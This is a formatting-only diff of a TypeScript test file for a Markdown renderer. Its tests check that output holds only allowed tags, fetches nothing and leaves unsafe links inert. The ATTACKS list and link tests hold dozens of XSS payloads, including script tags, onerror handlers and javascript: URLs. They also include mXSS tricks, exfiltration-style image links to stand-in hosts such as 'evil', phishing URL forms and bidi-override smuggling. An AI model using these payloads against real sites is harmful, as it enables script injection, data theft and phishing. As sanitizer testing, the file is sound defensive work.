@@ -13,7 +13,10 @@ function html(text: string, live = false): string {
   return renderToStaticMarkup(createElement(MarkdownBlocks, { text, live, labels }));
 }
 
-const TAGS = "p h3 h4 h5 h6 ul ol li blockquote hr br em strong del code a span figure header pre button div footer table thead tbody tr th td".split(" ");
+const TAGS =
+  "p h3 h4 h5 h6 ul ol li blockquote hr br em strong del code a span figure header pre button div footer table thead tbody tr th td".split(
+    " ",
+  );
 const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
   dir: /^(?:auto|ltr)$/,
   class: /^(?:codeblock|tablebox|caret|r|lines|task|box|host|btn plain|plain)$/,
@@ -29,24 +32,98 @@ const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
 
 function assertAllowed(source: string, page: string): void {
   // Every `<` of the text is escaped by React, so every tag here was written by the renderer.
-  for (const [, tag = "", attributes = ""] of page.matchAll(/<\/?([^\s>/]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)) {
+  for (const [, tag = "", attributes = ""] of page.matchAll(
+    /<\/?([^\s>/]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g,
+  )) {
     assert.ok(TAGS.includes(tag), `<${tag}> from ${source}`);
     for (const [, name = "", value = ""] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
       assert.match(value, ATTRIBUTES[name] ?? /^never$/, `${name}="${value}" from ${source}`);
     }
   }
-  assert.equal(page.replace(/<\/?[a-z][a-z\d]*(?:\s+[a-z-]+="[^"]*")*\s*\/?>/g, "").includes("<"), false, source);
+  assert.equal(
+    page.replace(/<\/?[a-z][a-z\d]*(?:\s+[a-z-]+="[^"]*")*\s*\/?>/g, "").includes("<"),
+    false,
+    source,
+  );
 }
 
 const ATTACKS = [
-  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<iframe><img title="</iframe><img src=x onerror=alert(1)>">', "<svg/onload=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-  "<a href=javascript:alert(1)>x</a>", "<form><input name=body></form>", '<div id="__NEXT_DATA__">', "<img name=self>", "<style>@import 'https://evil/x.css'</style>", "<link rel=stylesheet href=https://evil>", "<base href=//evil>",
-  "<meta http-equiv=refresh content='0;url=https://evil'>", "<object data=x>", "<embed src=x>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-  "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php echo 1 ?>", "<x contenteditable onblur=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
-  '[a](javascript:alert(1))', "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](&#x6a;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](data:text/html,<script>alert(1)</script>)", "[a](vbscript:x)", "[a](vscode://x)", "[a](blob:https://x)", "[a](file:///etc/passwd)",
-  "[a](//evil.com)", "[a](\\\\\\\\evil.com)", "[a](/\\\\evil.com)", "[a](https:evil.com)", "[a](https:/evil.com)", "[a](https://bank.com@evil.com)", "[a](https://@evil.com)", "[a](https://bank.com%40evil.com)", "[a](#body)", "[a](/path)", "[a](<javascript:alert(1)>)", "[a](\u0001javascript:alert(1))", "[a](&#1;javascript:alert(1))", "[a](&Tab;javascript:alert(1))",
-  '[a](https://x.com" onmouseover="alert(1))', "[a](https://x.com 'onmouseover=alert(1)')", "<javascript:alert(1)>", "<data:text/html,x>", "[a]: javascript:alert(1)\n\n[a]", "[a]: data:x\n\n![a] [x][a]", "![x](javascript:alert(1))", "![x](https://evil/?q=S)", "![x][i]\n\n[i]: https://evil/?q=S", '![x](https://evil "onload=alert(1)")', '![" onerror="alert(1)](https://evil)',
-  "```\" onload=\"alert(1)\nx\n```", "```<script>\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`", "| <script> | a |\n|---|--:|\n| <img src=x onerror=alert(1)> | `</td>` |", "# <script>alert(1)</script> {#body onclick=alert(1)}", "- [x] <input onfocus=alert(1) autofocus>", "1) <b onclick=x>\n999999999. x", "> <script>\n> alert(1)", "[^1]: <script>\n\n[^1]", "https://x.com/<script>alert(1)</script>", "https://x.com/\"onmouseover=alert(1)", "www.x.com/'><img>", "javascript:alert(1)", "\u202Egnp.exe", "x\u{E0041}\u{E0042}y", "{{constructor.constructor('alert(1)')()}}", "$\\href{javascript:alert(1)}{x}$",
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
+  "<svg/onload=alert(1)>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<form><input name=body></form>",
+  '<div id="__NEXT_DATA__">',
+  "<img name=self>",
+  "<style>@import 'https://evil/x.css'</style>",
+  "<link rel=stylesheet href=https://evil>",
+  "<base href=//evil>",
+  "<meta http-equiv=refresh content='0;url=https://evil'>",
+  "<object data=x>",
+  "<embed src=x>",
+  "<details open ontoggle=alert(1)>",
+  "<video><source onerror=alert(1)>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<![CDATA[<img src=x onerror=alert(1)>]]>",
+  "<?php echo 1 ?>",
+  "<x contenteditable onblur=alert(1)>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+  "[a](javascript:alert(1))",
+  "[a](JaVaScRiPt:alert(1))",
+  "[a](java\nscript:alert(1))",
+  "[a](&#x6a;avascript:alert(1))",
+  "[a](javascript&colon;alert(1))",
+  "[a](data:text/html,<script>alert(1)</script>)",
+  "[a](vbscript:x)",
+  "[a](vscode://x)",
+  "[a](blob:https://x)",
+  "[a](file:///etc/passwd)",
+  "[a](//evil.com)",
+  "[a](\\\\\\\\evil.com)",
+  "[a](/\\\\evil.com)",
+  "[a](https:evil.com)",
+  "[a](https:/evil.com)",
+  "[a](https://bank.com@evil.com)",
+  "[a](https://@evil.com)",
+  "[a](https://bank.com%40evil.com)",
+  "[a](#body)",
+  "[a](/path)",
+  "[a](<javascript:alert(1)>)",
+  "[a](\u0001javascript:alert(1))",
+  "[a](&#1;javascript:alert(1))",
+  "[a](&Tab;javascript:alert(1))",
+  '[a](https://x.com" onmouseover="alert(1))',
+  "[a](https://x.com 'onmouseover=alert(1)')",
+  "<javascript:alert(1)>",
+  "<data:text/html,x>",
+  "[a]: javascript:alert(1)\n\n[a]",
+  "[a]: data:x\n\n![a] [x][a]",
+  "![x](javascript:alert(1))",
+  "![x](https://evil/?q=S)",
+  "![x][i]\n\n[i]: https://evil/?q=S",
+  '![x](https://evil "onload=alert(1)")',
+  '![" onerror="alert(1)](https://evil)',
+  '```" onload="alert(1)\nx\n```',
+  "```<script>\n</code></pre><script>alert(1)</script>\n```",
+  "`</code><script>alert(1)</script>`",
+  "| <script> | a |\n|---|--:|\n| <img src=x onerror=alert(1)> | `</td>` |",
+  "# <script>alert(1)</script> {#body onclick=alert(1)}",
+  "- [x] <input onfocus=alert(1) autofocus>",
+  "1) <b onclick=x>\n999999999. x",
+  "> <script>\n> alert(1)",
+  "[^1]: <script>\n\n[^1]",
+  "https://x.com/<script>alert(1)</script>",
+  'https://x.com/"onmouseover=alert(1)',
+  "www.x.com/'><img>",
+  "javascript:alert(1)",
+  "\u202Egnp.exe",
+  "x\u{E0041}\u{E0042}y",
+  "{{constructor.constructor('alert(1)')()}}",
+  "$\\href{javascript:alert(1)}{x}$",
 ];
 
 describe("the renderer alone", () => {
@@ -58,15 +135,22 @@ describe("the renderer alone", () => {
   }
 
   it("draws nothing but allowed tags and attributes for attacks and answers in any mixture", () => {
-    const part = fc.oneof(fc.constantFrom(...ATTACKS, ...ODD_ANSWERS.slice(0, 12)), fc.constantFrom("\n", "\n\n", "- ", "> ", "**", "|", "`", "```\n", "[", "](", ")", "<", "&"), fc.string({ maxLength: 8 }));
+    const part = fc.oneof(
+      fc.constantFrom(...ATTACKS, ...ODD_ANSWERS.slice(0, 12)),
+      fc.constantFrom("\n", "\n\n", "- ", "> ", "**", "|", "`", "```\n", "[", "](", ")", "<", "&"),
+      fc.string({ maxLength: 8 }),
+    );
     fc.assert(
-      fc.property(fc.array(part, { maxLength: 8 }), fc.boolean(), (parts, live) => assertAllowed(parts.join(""), html(parts.join(""), live))),
+      fc.property(fc.array(part, { maxLength: 8 }), fc.boolean(), (parts, live) =>
+        assertAllowed(parts.join(""), html(parts.join(""), live)),
+      ),
       { numRuns: 500 },
     );
   });
 
   it("asks the network for nothing", () => {
-    for (const text of ATTACKS) assert.doesNotMatch(html(text), /<[^>]*\s(?:src|srcset|style|background|poster|action|data|ping)=/);
+    for (const text of ATTACKS)
+      assert.doesNotMatch(html(text), /<[^>]*\s(?:src|srcset|style|background|poster|action|data|ping)=/);
   });
 
   it("shows a picture as words and a link that waits for a click", () => {
@@ -83,13 +167,18 @@ describe("the renderer alone", () => {
 
   it("shows bidi overrides and tag characters as marks, everywhere", () => {
     const hidden = "a\u202Eb\u2066c\u{E0041}\u{E0042}";
-    const page = html(`${hidden}\n\n\`${hidden}\`\n\n\`\`\`${hidden}\n${hidden}\n\`\`\`\n\n| ${hidden} |\n|---|\n\n[${hidden}](https://x.com) ![${hidden}](https://x.com) [${hidden}][${hidden}] &#x202E;`);
+    const page = html(
+      `${hidden}\n\n\`${hidden}\`\n\n\`\`\`${hidden}\n${hidden}\n\`\`\`\n\n| ${hidden} |\n|---|\n\n[${hidden}](https://x.com) ![${hidden}](https://x.com) [${hidden}][${hidden}] &#x202E;`,
+    );
     assert.doesNotMatch(page, /[\u202A-\u202E\u2066-\u2069]|[\u{E0000}-\u{E007F}]/u);
     assert.match(page, /a⟦U\+202E⟧b⟦U\+2066⟧c⟦U\+E0041 ×2⟧/);
   });
 
   it("leaves headings one and two to the page", () => {
-    assert.match(html("# a\n\n## b\n\n###### c"), /^<h3 dir="auto">a<\/h3><h4 dir="auto">b<\/h4><h6 dir="auto">c<\/h6>$/);
+    assert.match(
+      html("# a\n\n## b\n\n###### c"),
+      /^<h3 dir="auto">a<\/h3><h4 dir="auto">b<\/h4><h6 dir="auto">c<\/h6>$/,
+    );
   });
 });
 
@@ -110,12 +199,51 @@ describe("a link", () => {
   });
 
   it("whose words are true shows them alone", () => {
-    for (const text of ["[x.com](https://www.x.com/a)", "https://x.com/README.md", "[docs](https://x.com)", "[https://x.com/a](https://x.com/b)"]) assert.equal(host(text), undefined, text);
+    for (const text of [
+      "[x.com](https://www.x.com/a)",
+      "https://x.com/README.md",
+      "[docs](https://x.com)",
+      "[https://x.com/a](https://x.com/b)",
+    ])
+      assert.equal(host(text), undefined, text);
   });
 
   it("is inert unless it is a plain http, https or mailto address", () => {
-    const bad = ["javascript:a", "java\nscript:a", "data:x", "vbscript:x", "vscode:x", "blob:https://x", "//evil", "\\\\evil", "/p", "#p", "", "https:x", "https:///x", "http://a@b", "https://a:b@c", "https://@c", "https://a\u200Bb.com", "https://a\u202Eb.com", "https://a b.com", "https://a.com\\@b", " https://a.com", "https://a.com\t", "mailto:", "https://[", "https://a.com:99999"];
+    const bad = [
+      "javascript:a",
+      "java\nscript:a",
+      "data:x",
+      "vbscript:x",
+      "vscode:x",
+      "blob:https://x",
+      "//evil",
+      "\\\\evil",
+      "/p",
+      "#p",
+      "",
+      "https:x",
+      "https:///x",
+      "http://a@b",
+      "https://a:b@c",
+      "https://@c",
+      "https://a\u200Bb.com",
+      "https://a\u202Eb.com",
+      "https://a b.com",
+      "https://a.com\\@b",
+      " https://a.com",
+      "https://a.com\t",
+      "mailto:",
+      "https://[",
+      "https://a.com:99999",
+    ];
     for (const url of bad) assert.equal(linkTarget(url), null, JSON.stringify(url));
-    for (const url of ["http://x.com", "HTTPS://x.com/?a=b#c", "mailto:a@b.co", "https://x.com/a@b", "https://127.0.0.1:8080/x"]) assert.notEqual(linkTarget(url), null, url);
+    for (const url of [
+      "http://x.com",
+      "HTTPS://x.com/?a=b#c",
+      "mailto:a@b.co",
+      "https://x.com/a@b",
+      "https://127.0.0.1:8080/x",
+    ])
+      assert.notEqual(linkTarget(url), null, url);
   });
 });
